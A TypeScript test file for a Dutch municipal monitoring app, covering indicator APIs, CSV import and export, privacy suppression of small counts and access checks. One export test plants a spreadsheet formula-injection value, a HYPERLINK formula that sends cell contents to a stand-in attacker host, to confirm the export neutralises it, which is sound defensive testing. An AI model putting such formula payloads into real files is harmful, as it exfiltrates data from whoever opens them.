import { describe, expect, it } from "vitest";
import { apiCaller, formPost, statusOf, useTestApp } from "../../../test/helpers/app.js";
import { MEASUREMENT_HEADER, measurementCsv } from "../../../test/helpers/measurements.js";
import { parseCsv } from "../../platform/csv.js";

const t = useTestApp(["beleidsmedewerker"]);
const staff = () => t.cookie("beleidsmedewerker");

const importCsv = (csv: string, query = "", cookie: string | null = staff()) =>
  t.app.inject({
    method: "POST",
    url: `/api/v1/metingen/import${query}`,
    headers: { ...(cookie ? { cookie } : {}), "content-type": "text/csv" },
    payload: csv,
  });

describe("monitoring API", () => {
  it("lists the indicators with their goals; social cohesion has 5.9 (2018) and 5.5 (2024)", async () => {
    const list = (await t.app.inject({ url: "/api/v1/indicatoren" })).json().indicatoren;
    expect(list.length).toBeGreaterThanOrEqual(15);
    const cohesion = list.find((i: { code: string }) => i.code === "msk-sociale-samenhang");
    expect(cohesion.beleidsindicatoren[0].document).toBe("beleidskader-2025-2030");
    const metingen = (
      await t.app.inject({
        url: "/api/v1/indicatoren/msk-sociale-samenhang/metingen?gebied=GM0356",
      })
    ).json().metingen;
    expect(metingen.map((m: { jaar: number; waarde: number }) => [m.jaar, m.waarde])).toEqual([
      [2018, 5.9],
      [2024, 5.5],
    ]);
    const zelfredzaamheid = list.find((i: { naam: string }) => i.naam === "Zelfredzaamheid");
    expect(zelfredzaamheid.laatsteMeting).toBeNull();
    expect(zelfredzaamheid.status.status).toBe("onvoldoende_gegevens");
  });

  it("says Collectieve zelfredzaamheid (3.0 in 2020 against 3.2) is niet op koers", async () => {
    const a = (
      await t.app.inject({ url: "/api/v1/indicatoren/jv-collectieve-zelfredzaamheid/analyse" })
    ).json();
    expect(a.status.status).toBe("niet_op_koers");
    expect(a.streefwaarde).toEqual({ waarde: 3.2, jaar: 2020 });
    expect(a.trend.metingen).toBe(4);
  });

  it("compares wijken, hiding counts under the privacy threshold", async () => {
    const a = (await t.app.inject({ url: "/api/v1/indicatoren/cbs-inwoners/analyse" })).json();
    expect(a.wijken).toHaveLength(22);
    expect(a.wijken.find((w: { gebied: string }) => w.gebied === "WK035615")).toMatchObject({
      waarde: 15,
      nietGetoond: false,
    });
    const csv = measurementCsv(
      "cbs-wmo-clienten,WK035615,2022,,realisatie,6,Test,,,",
      "cbs-wmo-clienten,WK035608,2022,,realisatie,420,Test,,,",
    );
    expect((await importCsv(csv)).statusCode).toBe(200);
    const wmo = (
      await t.app.inject({ url: "/api/v1/indicatoren/cbs-wmo-clienten/analyse" })
    ).json();
    expect(wmo.wijken.find((w: { gebied: string }) => w.gebied === "WK035615")).toMatchObject({
      waarde: null,
      nietGetoond: true,
      terugval: { gebied: "GM0356", waarde: 3400 },
    });
    expect(wmo.wijken.find((w: { gebied: string }) => w.gebied === "WK035608")).toMatchObject({
      waarde: 420,
      nietGetoond: false,
    });
    const page = await t.app.inject({ url: "/monitor/cbs-wmo-clienten" });
    expect(page.body).toContain("niet getoond (privacy); Nieuwegein: 3.400");
    expect(page.body).not.toMatch(/>6<\/td>/);
    const population = await t.app.inject({ url: "/monitor/cbs-inwoners" });
    expect(population.body).toContain('id="wijkkaart-titel"');
    expect(population.body.match(/class="sk-map__area sk-choro--[1-5]"/g)?.length).toBe(22);
  });

  it("imports nothing when one row is bad, reporting the row and reason (400)", async () => {
    const csv = measurementCsv(
      "msk-vrijwilligerswerk,GM0356,2026,,realisatie,37,Test,,,",
      "msk-vrijwilligerswerk,WK000000,2026,,realisatie,30,Test,,,",
    );
    const res = await importCsv(csv);
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({
      geslaagd: false,
      fouten: [{ regel: 3, melding: 'onbekende gebiedscode "WK000000"' }],
    });
    const m = (
      await t.app.inject({ url: "/api/v1/indicatoren/msk-vrijwilligerswerk/metingen" })
    ).json().metingen;
    expect(m.some((x: { jaar: number }) => x.jaar === 2026)).toBe(false);
  });

  it("previews without saving, then imports 10,000 rows that show on the dashboard", async () => {
    const areas = (await t.app.inject({ url: "/api/v1/gebieden?paginaGrootte=100" }))
      .json()
      .gebieden.map((g: { code: string }) => g.code)
      .slice(0, 25);
    expect(areas).toHaveLength(25);
    const lines = [MEASUREMENT_HEADER];
    for (let year = 1925; year <= 2024; year++)
      for (let q = 1; q <= 4; q++)
        for (const area of areas)
          lines.push(
            `msk-zelfredzaamheid,${area},${year},${q},realisatie,"${year === 2024 && q === 4 ? "3,9" : "3,5"}",Test,,,`,
          );
    const csv = lines.join("\n");
    const preview = await importCsv(csv, "?voorbeeld=true");
    expect(preview.json()).toMatchObject({ geslaagd: true, nieuw: 10_000 });
    expect(
      (await t.app.inject({ url: "/api/v1/indicatoren/msk-zelfredzaamheid/metingen" })).json()
        .metingen,
    ).toHaveLength(0);
    const res = await importCsv(csv);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ geslaagd: true, regels: 10_000, nieuw: 10_000 });
    const dashboard = await t.app.inject({ url: "/monitor" });
    expect(dashboard.body).toMatch(/Zelfredzaamheid<\/a>[\s\S]*?3,9 \(2024-K4\)/);
  }, 120_000);

  it("refuses imports without a session (401), by a partner (403) and as a form post (415)", async () => {
    expect((await importCsv(MEASUREMENT_HEADER, "", null)).statusCode).toBe(401);
    const partner = await t.sessionFor("partner");
    expect((await importCsv(MEASUREMENT_HEADER, "", partner)).statusCode).toBe(403);
    const form = await t.app.inject({
      method: "POST",
      url: "/api/v1/metingen/import",
      headers: { cookie: staff(), "content-type": "application/x-www-form-urlencoded" },
      payload: "a=b",
    });
    expect(form.statusCode).toBe(415);
  });

  it("adds one measurement through the API with the same checks", async () => {
    const post = (body: unknown) =>
      t.app.inject({
        method: "POST",
        url: "/api/v1/indicatoren/msk-eenzaamheid/metingen",
        headers: { cookie: staff(), "content-type": "application/json" },
        payload: JSON.stringify(body),
      });
    expect(
      (await post({ gebied: "GM0356", jaar: 2026, waarde: 140, bron: "Test" })).statusCode,
    ).toBe(400);
    const nothing = await post({ gebied: "GM0356", jaar: 2025, bron: "Test" });
    expect(nothing.statusCode).toBe(400);
    expect(nothing.json().detail).toBe("Geef een waarde, streefwaarde of schatting.");
    const ok = await post({
      gebied: "GM0356",
      jaar: 2026,
      waarde: 45,
      streefwaarde: 40,
      bron: "Monitor Sociale Kracht 2026",
      vrijgave: "voorlopig",
    });
    expect(ok.statusCode).toBe(201);
    const a = (await t.app.inject({ url: "/api/v1/indicatoren/msk-eenzaamheid/analyse" })).json();
    expect(a.verandering).toMatchObject({ absoluut: -4, vanaf: 2024, tot: 2026 });
    expect(a.status.status).toBe("niet_op_koers");
  });

  it("exports measurements as CSV in the import format", async () => {
    const res = await t.app.inject({
      url: "/api/v1/indicatoren/cbs-wmo-clienten/metingen?formaat=csv",
    });
    expect(res.headers["content-type"]).toMatch(/^text\/csv/);
    expect(res.body.split("\r\n")[0]).toBe(MEASUREMENT_HEADER);
    expect(res.body).toContain("cbs-wmo-clienten,GM0356,2022,,realisatie,3400");
  });
});

describe("biennial evaluation", () => {
  it("renders all four pillars of the 2025-2030 framework with indicators, first and latest value and status", async () => {
    const res = await t.app.inject({ url: "/evaluatie/beleidskader-2025-2030/2026" });
    expect(res.statusCode).toBe(200);
    for (const pillar of [
      "Sociale verbinding en samen-kracht",
      "Meer oplossen in het gewone leven",
      "Toeleiding naar passende ondersteuning",
      "Wmo-maatwerk voor de ondersteuning van inwoners",
    ]) {
      expect(res.body).toContain(pillar);
    }
    expect(res.body).toMatch(
      /Sociale samenhang in de buurt[\s\S]*?5,9 \(2018\)[\s\S]*?5,5 \(2024\)/,
    );
    const download = await t.app.inject({
      url: "/evaluatie/beleidskader-2025-2030/2026?download=ja",
    });
    expect(download.headers["content-disposition"]).toBe(
      'attachment; filename="evaluatie-beleidskader-2025-2030-2026.html"',
    );
    expect(
      (await t.app.inject({ url: "/evaluatie/beleidskader-2025-2030/twintig" })).statusCode,
    ).toBe(400);
    expect((await t.app.inject({ url: "/evaluatie/bestaat-niet/2026" })).statusCode).toBe(404);
    // A year outside the document's period is a 404 that says which years it covers.
    const early = await t.app.inject({ url: "/evaluatie/beleidskader-2025-2030/1999" });
    expect(early.statusCode).toBe(404);
    expect(early.body).toContain("2025 tot en met 2030; voor 1999 is er geen evaluatie.");
    const budget = await t.app.inject({ url: "/evaluatie/begroting-2020/2026" });
    expect(budget.statusCode).toBe(404);
    expect(budget.body).toContain("voor 2026 is er geen evaluatie.");
  });
});

describe("import page", () => {
  it("previews, reports bad rows in Dutch, and imports a good file with PRG", async () => {
    const { formSession } = await import("../../../test/helpers/app.js");
    const { token, cookie, page } = await formSession(t.app, "/monitor/import", staff());
    expect(page.statusCode).toBe(200);
    const post = (csv: string, actie: string) =>
      formPost(t.app, "/monitor/import", cookie, { _csrf: token, csv, actie });
    const bad = await post(
      measurementCsv("msk-vrijwilligerswerk,GM0356,2013,,realisatie,abc,Test,,,"),
      "voorbeeld",
    );
    expect(bad.statusCode).toBe(400);
    expect(bad.body).toContain("Regel 2: waarde &quot;abc&quot; is geen getal");
    const good = measurementCsv("msk-vrijwilligerswerk,GM0356,2013,,realisatie,38,Test,,,");
    const preview = await post(good, "voorbeeld");
    expect(preview.statusCode).toBe(200);
    expect(preview.body).toContain("1 nieuwe meting,");
    const done = await post(good, "importeren");
    expect(done.statusCode).toBe(303);
    const list = (
      await t.app.inject({ url: "/api/v1/indicatoren/msk-vrijwilligerswerk/metingen" })
    ).json().metingen;
    expect(list.some((m: { jaar: number }) => m.jaar === 2013)).toBe(true);
    const partner = await t.sessionFor("partner");
    expect(
      (await t.app.inject({ url: "/monitor/import", headers: { cookie: partner } })).statusCode,
    ).toBe(403);
  });
  it("reports an impossible date, a future realisation and a fraction-like percentage in the preview", async () => {
    const { formSession } = await import("../../../test/helpers/app.js");
    const { token, cookie } = await formSession(t.app, "/monitor/import", staff());
    const future = new Date().getUTCFullYear() + 1;
    const post = (csv: string) =>
      formPost(t.app, "/monitor/import", cookie, { _csrf: token, csv, actie: "voorbeeld" });
    const bad = await post(
      measurementCsv(
        "msk-vrijwilligerswerk,GM0356,2014,,realisatie,38,Test,2026-13-45,,",
        `msk-vrijwilligerswerk,GM0356,${future},,realisatie,38,Test,,,`,
        `msk-vrijwilligerswerk,GM0356,${future},,streefwaarde,40,Test,,,`,
      ),
    );
    expect(bad.statusCode).toBe(400);
    expect(bad.body).toContain("Regel 2: publicatiedatum &quot;2026-13-45&quot;");
    expect(bad.body).toContain(
      `Regel 3: een gemeten waarde (realisatie) kan niet in een toekomstig jaar (${future})`,
    );
    expect(bad.body).not.toContain("Regel 4:");
    expect(bad.body).not.toContain("in orde");
    const fraction = await post(
      measurementCsv('msk-vrijwilligerswerk,GM0356,2015,,realisatie,"0,475",Test,,,'),
    );
    expect(fraction.statusCode).toBe(200);
    expect(fraction.body).toContain("Regel 2: waarde 0,475 lijkt een fractie; bedoelt u 47,5?");
  });

  it("imports an uploaded file, and a template that passes its own preview", async () => {
    const { formSession } = await import("../../../test/helpers/app.js");
    const { token, cookie, page } = await formSession(t.app, "/monitor/import", staff());
    expect(page.body).toContain('type="file"');
    expect(page.body).toContain("msk-vrijwilligerswerk");
    const template = await t.app.inject({
      url: "/monitor/import/sjabloon.csv?indicator=msk-vrijwilligerswerk",
      headers: { cookie: staff() },
    });
    expect(template.statusCode).toBe(200);
    expect(template.headers["content-type"]).toContain("text/csv");
    expect(parseCsv(template.body)[1]?.[0]).toBe("msk-vrijwilligerswerk");
    expect(
      (
        await t.app.inject({
          url: "/monitor/import/sjabloon.csv?indicator=bestaat-niet",
          headers: { cookie: staff() },
        })
      ).statusCode,
    ).toBe(404);
    const upload = (file: string, actie: string, csrf = token) => {
      const boundary = "----grens";
      const part = (name: string, value: string, filename?: string) =>
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${filename ? `; filename="${filename}"\r\nContent-Type: text/csv` : ""}\r\n\r\n${value}\r\n`;
      return t.app.inject({
        method: "POST",
        url: "/monitor/import",
        headers: { cookie, "content-type": `multipart/form-data; boundary=${boundary}` },
        payload: `${part("_csrf", csrf)}${part("actie", actie)}${part("csv", "")}${part("bestand", file, "metingen.csv")}--${boundary}--\r\n`,
      });
    };
    const viaApi = await t.app.inject({
      url: "/api/v1/indicatoren/msk-vrijwilligerswerk/sjabloon",
    });
    expect(viaApi.statusCode).toBe(200);
    expect(viaApi.body).toBe(template.body);
    const apiPreview = (await importCsv(viaApi.body, "?voorbeeld=true")).json();
    expect(apiPreview).toMatchObject({ geslaagd: true, fouten: [], waarschuwingen: [] });
    const preview = await upload(template.body, "voorbeeld");
    expect(preview.statusCode).toBe(200);
    expect(preview.body).toContain("het bestand is in orde");
    expect((await upload(template.body, "importeren", "fout")).statusCode).toBe(403);
    expect((await upload("a\u0000b", "voorbeeld")).statusCode).toBe(400);
    // A broken or oversized multipart body is refused as the client's error, never a 500.
    const broken = await t.app.inject({
      method: "POST",
      url: "/monitor/import",
      headers: { cookie, "content-type": "multipart/form-data; boundary=x" },
      payload: '--x\r\nContent-Disposition: form-data; name="csv"\r\n\r\nabc',
    });
    expect(broken.statusCode).toBeGreaterThanOrEqual(400);
    expect(broken.statusCode).toBeLessThan(500);
    const manyParts = await t.app.inject({
      method: "POST",
      url: "/monitor/import",
      headers: { cookie, "content-type": "multipart/form-data; boundary=x" },
      payload: `${Array.from({ length: 20 }, (_, i) => `--x\r\nContent-Disposition: form-data; name="v${i}"\r\n\r\n1\r\n`).join("")}--x--\r\n`,
    });
    expect(manyParts.statusCode).toBeGreaterThanOrEqual(400);
    expect(manyParts.statusCode).toBeLessThan(500);
    const done = await upload(
      measurementCsv("msk-vrijwilligerswerk,GM0356,2016,,realisatie,36,Test,,,"),
      "importeren",
    );
    expect(done.statusCode).toBe(303);
    const partner = await t.sessionFor("partner");
    expect(
      (
        await t.app.inject({
          url: "/monitor/import/sjabloon.csv",
          headers: { cookie: partner },
        })
      ).statusCode,
    ).toBe(403);
  });
});

describe("managing indicators", () => {
  const call = apiCaller(t, staff);
  const indicator = {
    naam: "Bezoekers buurtpleinen",
    eenheid: "aantal",
    bron: "Eigen registratie",
  };

  it("creates an indicator, sets a target and a story, and validates in Dutch", async () => {
    expect(await statusOf(call("POST", "/api/v1/indicatoren", indicator, null))).toBe(401);
    const bad = await call("POST", "/api/v1/indicatoren", {
      naam: "Zonder bron",
      eenheid: "aantal",
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().detail).toContain("Bron is verplicht.");
    const created = await call("POST", "/api/v1/indicatoren", {
      ...indicator,
      richting: "hoger_is_beter",
    });
    expect(created.statusCode).toBe(201);
    expect(created.json().code).toBe("bezoekers-buurtpleinen");
    expect(await statusOf(call("POST", "/api/v1/indicatoren", { ...indicator, bron: "x" }))).toBe(
      409,
    );
    const target = { streefwaarde: 5000, streefjaar: 2028, verhaal: "Meer activiteiten." };
    expect(
      await statusOf(call("PATCH", "/api/v1/indicatoren/bezoekers-buurtpleinen", target)),
    ).toBe(204);
    const detail = (
      await t.app.inject({ url: "/api/v1/indicatoren/bezoekers-buurtpleinen" })
    ).json();
    expect(detail).toMatchObject({
      streefwaarde: 5000,
      streefjaar: 2028,
      status: { status: "onvoldoende_gegevens" },
    });
  });
});

describe("Wmo cost view", () => {
  it("draws the actual costs as a solid line and the trend extended as a dotted line", async () => {
    const before = await t.app.inject({ url: "/monitor/wmo-kosten" });
    expect(before.body).toContain("Er is nog geen meting voor deze indicator.");
    const csv = measurementCsv(
      ...[
        [2019, "14.100.000"],
        [2020, "14.900.000"],
        [2021, "15.800.000"],
        [2022, "16.900.000"],
        [2023, "18.200.000"],
      ].map(([y, v]) => `wmo-kosten,GM0356,${y},,realisatie,"${v}",Testbron,,,`),
    );
    expect((await importCsv(csv)).statusCode).toBe(200);
    const svg = await t.app.inject({ url: "/monitor/wmo-kosten/grafiek.svg" });
    expect(svg.headers["content-type"]).toMatch(/^image\/svg\+xml/);
    expect(svg.body).toMatch(/stroke-dasharray/);
    const page = await t.app.inject({ url: "/monitor/wmo-kosten" });
    expect(page.body).toContain("de trend doorgetrokken (stippellijn)");
    expect(page.body).toContain("€ 18.200.000");
  });
});

describe("export of a selection", () => {
  it("exports chosen indicators, areas and years as CSV in the import format, and as JSON", async () => {
    const res = await t.app.inject({
      url: "/api/v1/metingen?indicator=cbs-wmo-clienten,msk-sociale-samenhang&gebied=GM0356&vanJaar=2018&totJaar=2022&formaat=csv",
    });
    expect(res.statusCode).toBe(200);
    const lines = res.body.trim().split("\r\n");
    expect(lines[0]).toBe(MEASUREMENT_HEADER);
    expect(lines.slice(1).map((l) => l.split(",").slice(0, 6).join(","))).toEqual([
      "cbs-wmo-clienten,GM0356,2021,,realisatie,3380",
      "cbs-wmo-clienten,GM0356,2022,,realisatie,3400",
      "msk-sociale-samenhang,GM0356,2018,,realisatie,5.9",
    ]);
    const json = (
      await t.app.inject({ url: "/api/v1/metingen?indicator=cbs-inwoners&gebied=WK035608" })
    ).json();
    expect(json.metingen).toEqual([
      expect.objectContaining({
        indicator: "cbs-inwoners",
        gebied: "WK035608",
        jaar: 2024,
        waarde: 8130,
      }),
    ]);
    expect(await statusOf(t.app.inject({ url: "/api/v1/metingen?indicator=bestaat-niet" }))).toBe(
      404,
    );
  });

  it("round-trips: an exported selection imports again without changes", async () => {
    const csv = (
      await t.app.inject({
        url: "/api/v1/metingen?indicator=jv-collectieve-zelfredzaamheid&formaat=csv",
      })
    ).body;
    const res = await importCsv(csv);
    expect(res.json()).toMatchObject({ geslaagd: true, nieuw: 0, gecorrigeerd: 0 });
  });

  it("neutralises formulas in the CSV export, keeps negative numbers, and imports the export back unchanged", async () => {
    const source = '=HYPERLINK("http://aanval.example/?"&A1,"Klik hier")';
    const note = "@SUM(A1) -2";
    const planted = measurementCsv(
      `wmo-kosten,GM0356,2011,,realisatie,"-1250,5","${source.replaceAll('"', '""')}",,definitief,${note}`,
    );
    expect((await importCsv(planted)).json()).toMatchObject({ geslaagd: true, nieuw: 1 });
    const url = "/api/v1/metingen?indicator=wmo-kosten&vanJaar=2011&totJaar=2011";
    const exported = (await t.app.inject({ url: `${url}&formaat=csv` })).body;
    expect(exported).toContain(`"'=HYPERLINK(""http://aanval.example/?""&A1,""Klik hier"")"`);
    expect(parseCsv(exported)[1]).toEqual([
      "wmo-kosten",
      "GM0356",
      "2011",
      "",
      "realisatie",
      "-1250.5",
      `'${source}`,
      "",
      "definitief",
      `'${note}`,
    ]);
    expect((await importCsv(exported)).json()).toMatchObject({
      geslaagd: true,
      nieuw: 0,
      gecorrigeerd: 0,
    });
    const [stored] = (await t.app.inject({ url })).json().metingen;
    expect(stored).toMatchObject({ waarde: -1250.5, bron: source });
  });
});

describe("indicator form", () => {
  it("lets staff set a target and the story; a bad year is explained", async () => {
    const { formSession } = await import("../../../test/helpers/app.js");
    const { token, cookie, page } = await formSession(
      t.app,
      "/monitor/msk-vrijwilligerswerk",
      staff(),
    );
    expect(page.body).toContain("Indicator bewerken");
    const post = (fields: Record<string, string>) =>
      formPost(t.app, "/monitor/msk-vrijwilligerswerk/bewerken", cookie, {
        _csrf: token,
        naam: "Inwoners die vrijwilligerswerk doen",
        bron: "Monitor Sociale Kracht",
        ...fields,
      });
    const bad = await post({ streefwaarde: "40", streefjaar: "3000" });
    expect(bad.statusCode).toBe(400);
    expect(bad.body).toContain("Streefjaar moet een jaartal tussen 2000 en 2100 zijn.");
    expect(
      (
        await post({
          streefwaarde: "40",
          streefjaar: "2030",
          verhaal: "Vrijwilligerscentrale werft actief.",
        })
      ).statusCode,
    ).toBe(303);
    const after = await t.app.inject({ url: "/monitor/msk-vrijwilligerswerk" });
    expect(after.body).toContain("Vrijwilligerscentrale werft actief.");
    expect(after.body).not.toContain("Indicator bewerken");
    const a = (
      await t.app.inject({ url: "/api/v1/indicatoren/msk-vrijwilligerswerk/analyse" })
    ).json();
    expect(a.streefwaarde).toEqual({ waarde: 40, jaar: 2030 });
  });
});
